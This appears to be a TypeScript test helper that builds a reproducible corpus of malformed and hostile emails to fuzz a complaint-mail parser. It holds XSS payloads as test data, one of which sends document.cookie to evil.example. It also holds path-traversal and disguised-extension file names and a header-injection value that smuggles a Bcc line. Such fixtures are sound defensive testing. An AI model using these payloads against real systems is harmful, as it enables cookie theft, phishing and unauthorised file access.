/**
 * A generated corpus of broken and hostile mail, from real messages of real clients: each message is
 * one seed mail with one or two mutations (truncated, wrong or missing boundaries, huge headers,
 * deep nesting, invalid charsets, zero-byte parts, malicious file names, HTML with scripts and
 * remote images, flipped bytes, bare line ends…), plus one message with a very large attachment.
 * Deterministic for a seed, so a failure can be replayed.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { seededRandom } from './seeded-random.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const SEEDS = [
  'examples/mail/email-gmail-jalan-rusak.eml',
  'examples/mail/email-outlook-lampu-jalan.eml',
  'examples/mail/email-thunderbird-informasi.eml',
  'examples/mail/email-yahoo-sampah-windows1252.eml',
  'test/fixtures/mail/html-only-hostile.eml',
  'test/fixtures/mail/iso-8859-1-subject-rfc2047.eml',
  'test/fixtures/mail/path-traversal-attachment-name.eml',
  'test/fixtures/mail/attachment-only.eml',
].map((file) => readFileSync(path.join(ROOT, file), 'latin1'));

export interface HostileMessage {
  /** What was done to it, for a failing test's message. */
  mutations: string[];
  raw: Buffer;
}

type Mutation = (mail: string, random: () => number) => string;

const SCRIPTED_HTML = [
  '<html><body onload="fetch(\'http://evil.example/\'+document.cookie)">',
  '<script>window.location="http://phish.example/login"</script>',
  '<img src="http://tracker.example/open.gif?id=1" onerror="alert(1)">',
  '<img src="cid:../../../../etc/passwd"><iframe src="http://evil.example/x"></iframe>',
  '<a href="javascript:alert(document.domain)">foto</a><svg onload="alert(2)"></svg>',
  '<link rel="stylesheet" href="http://evil.example/x.css"><style>@import url(http://evil.example/y.css)</style>',
  '<p>{{#each this}}{{this}}{{/each}} {{> partial}} {{constructor.constructor "alert(1)"}}</p>',
  '<p>Jalan rusak di Desa Lok Batu</p></body></html>',
].join('\r\n');

const FILE_NAMES = [
  '../../../../etc/passwd',
  '..\\\\..\\\\windows\\\\system32\\\\cmd.exe',
  'CON',
  'foto\u202Egpj.exe',
  'laporan.pdf\u0000.exe',
  `${'a'.repeat(600)}.pdf`,
  '/etc/shadow',
  'surat%2F..%2F..%2Fkunci.pem',
  '',
  '{{> partial}}.txt',
];

const header = (mail: string): [head: string, body: string] => {
  const end = mail.search(/\r?\n\r?\n/);
  return end < 0 ? [mail, ''] : [mail.slice(0, end), mail.slice(end)];
};
const pick = <T>(items: readonly T[], random: () => number): T => items[Math.floor(random() * items.length)]!;
const boundary = (n: number) => `----=_Bagian_${n}_${'x'.repeat(n % 7)}`;

const MUTATIONS: Record<string, Mutation> = {
  truncated: (mail, random) => mail.slice(0, Math.floor(random() * mail.length)),
  'boundary renamed in the header only': (mail) =>
    mail.replace(/boundary="?([^";\r\n]+)"?/i, 'boundary="tidak-ada-di-badan"'),
  'closing boundary removed': (mail) => mail.replace(/\r?\n--[^\r\n]+--\s*$/, '\r\n'),
  'boundary empty': (mail) => mail.replace(/boundary="?([^";\r\n]+)"?/i, 'boundary=""'),
  'huge subject': (mail, random) => {
    const [head, body] = header(mail);
    return `${head.replace(/^Subject:.*$/im, `Subject: ${'Jalan rusak '.repeat(20_000 + Math.floor(random() * 20_000))}`)}${body}`;
  },
  'ten thousand header lines': (mail) => {
    const [head, body] = header(mail);
    return `${head}\r\n${Array.from({ length: 10_000 }, (_, n) => `X-Sampah-${n}: ${'z'.repeat(40)}`).join('\r\n')}${body}`;
  },
  'folded header without end': (mail) => {
    const [head, body] = header(mail);
    return `${head}\r\nX-Lipat: a${'\r\n\t'.repeat(20_000)}b${body}`;
  },
  'deep nesting': (mail, random) => {
    const depth = 100 + Math.floor(random() * 400);
    const [head] = header(mail);
    const base = head
      .replace(/^Content-Type:.*(?:\r?\n[ \t].*)*/im, '')
      .replace(/^Content-Transfer-Encoding:.*$/im, '');
    let body = 'Content-Type: text/plain; charset=utf-8\r\n\r\nSampah menumpuk di Pasar Paringin.\r\n';
    for (let level = depth; level > 0; level--)
      body = `Content-Type: multipart/mixed; boundary="${boundary(level)}"\r\n\r\n--${boundary(level)}\r\n${body}\r\n--${boundary(level)}--\r\n`;
    return `${base}\r\n${body}`;
  },
  'invalid charset': (mail) =>
    mail
      .replace(/charset="?[\w-]+"?/gi, 'charset="x-tidak-dikenal-zz"')
      .replace(/^Subject:/im, 'Subject: =?x-zz?B?////?='),
  'bytes invalid in UTF-8': (mail) =>
    mail.replace(/\r?\n\r?\n/, '\r\n\r\n\xff\xfe\xc3\x28\xa0\xa1\xf0\x28\x8c\xbc '),
  'broken encoded-words': (mail) =>
    mail.replace(/^Subject:.*$/im, 'Subject: =?utf-8?Q?Jalan=ZZ=?= =?utf-8?B?***?= =?utf-8?X?x?= =??='),
  'broken base64': (mail) => mail.replace(/^([A-Za-z0-9+/]{20,})$/m, '!!!@@@###$$$%%%^^^&&&***((()))'),
  'broken quoted-printable': (mail) => mail.replace(/=\r?\n/g, '=Z\r\n').replace(/=([0-9A-F]{2})/g, '=$1=G'),
  'zero-byte parts': (mail) => {
    const [head] = header(mail);
    const base = head
      .replace(/^Content-Type:.*(?:\r?\n[ \t].*)*/im, '')
      .replace(/^Content-Transfer-Encoding:.*$/im, '');
    const b = boundary(3);
    return `${base}\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n--${b}\r\n\r\n--${b}\r\nContent-Type: application/pdf; name="kosong.pdf"\r\nContent-Disposition: attachment; filename="kosong.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n\r\n--${b}\r\nContent-Type: image/jpeg\r\n\r\n--${b}--\r\n`;
  },
  'malicious file names': (mail, random) => {
    const [head] = header(mail);
    const base = head
      .replace(/^Content-Type:.*(?:\r?\n[ \t].*)*/im, '')
      .replace(/^Content-Transfer-Encoding:.*$/im, '');
    const b = boundary(5);
    const parts = Array.from({ length: 3 }, () => {
      const name = pick(FILE_NAMES, random);
      return `--${b}\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"; filename*=UTF-8''${encodeURIComponent(name)}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('MZ\x90\x00 bukan program').toString('base64')}\r\n`;
    });
    return `${base}\r\nContent-Type: multipart/mixed; boundary="${b}"\r\n\r\n--${b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nLampiran bukti pungli.\r\n${parts.join('')}--${b}--\r\n`;
  },
  'HTML with scripts and remote images': (mail) => {
    const [head] = header(mail);
    const base = head
      .replace(/^Content-Type:.*(?:\r?\n[ \t].*)*/im, '')
      .replace(/^Content-Transfer-Encoding:.*$/im, '');
    return `${base}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${SCRIPTED_HTML}\r\n`;
  },
  'flipped bytes': (mail, random) => {
    const chars = mail.split('');
    for (let n = 0; n < 20; n++)
      chars[Math.floor(random() * chars.length)] = String.fromCharCode(Math.floor(random() * 256));
    return chars.join('');
  },
  'bare line ends': (mail) => mail.replace(/\r\n/g, () => '\n').replace(/\n\n/, '\r\r'),
  'no header separator': (mail) => mail.replace(/\r?\n\r?\n/g, '\r\n'),
  'header without colon and NUL bytes': (mail) =>
    mail.replace(/^(Subject:.*)$/im, '$1\r\nBukan header sama sekali\r\nX-Nul: a\u0000b'),
  'duplicate and missing headers': (mail) =>
    mail
      .replace(/^From:.*$/im, '')
      .replace(
        /^Message-ID:.*$/im,
        'Message-ID: <sama@x>\r\nMessage-ID: <lain@x>\r\nFrom: a@b\r\nFrom: "=?utf-8?B?77u/?=" <>',
      ),
  'control characters in the sender': (mail) =>
    mail.replace(
      /^From:.*$/im,
      'From: "Budi\r\n\tBcc: semua@balangankab.go.id" <budi\u0007@gmail.com\u0000>',
    ),
  'empty message': () => '',
  'only a header': (mail) => header(mail)[0],
};

/** `count` mutated messages, each one seed with one or two mutations, and each mutation used. */
export function* hostileCorpus(count: number, seed: number): Generator<HostileMessage> {
  const random = seededRandom(seed);
  const names = Object.keys(MUTATIONS);
  for (let n = 0; n < count; n++) {
    // The first pass applies every mutation once, then they are drawn at random, some in pairs.
    const chosen =
      n < names.length
        ? [names[n]!]
        : [pick(names, random), ...(random() < 0.3 ? [pick(names, random)] : [])];
    // A message of its own (the service takes a Message-ID seen before for a copy of it); the
    // mutations may still break the header.
    let mail = pick(SEEDS, random).replace(
      /^Message-ID:.*$/im,
      `Message-ID: <rusak-${seed}-${n}@warga.example.id>`,
    );
    for (const name of chosen) mail = MUTATIONS[name]!(mail, random);
    yield { mutations: chosen, raw: Buffer.from(mail, 'latin1') };
  }
}

/** One complaint with an attachment of `megabytes` (a fax-sized PDF repeated): memory must stay bounded. */
export function hugeAttachment(megabytes: number): HostileMessage {
  const b = boundary(9);
  const chunk = Buffer.alloc(1024 * 1024, 0x25)
    .toString('base64')
    .replace(/.{76}/g, '$&\r\n');
  const mail = [
    'From: Warga Besar <warga.besar@gmail.com>',
    'To: pengaduan@balangankab.go.id',
    'Subject: Bukti video jalan rusak',
    'Date: Mon, 23 Nov 2026 08:00:00 +0800',
    'Message-ID: <lampiran-besar@gmail.com>',
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`,
    '',
    `--${b}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Terlampir video jalan rusak di Desa Lok Batu.',
    `--${b}`,
    'Content-Type: video/mp4; name="jalan.mp4"',
    'Content-Disposition: attachment; filename="jalan.mp4"',
    'Content-Transfer-Encoding: base64',
    '',
    chunk.repeat(megabytes),
    `--${b}--`,
    '',
  ].join('\r\n');
  return { mutations: [`${megabytes} MB attachment`], raw: Buffer.from(mail, 'latin1') };
}
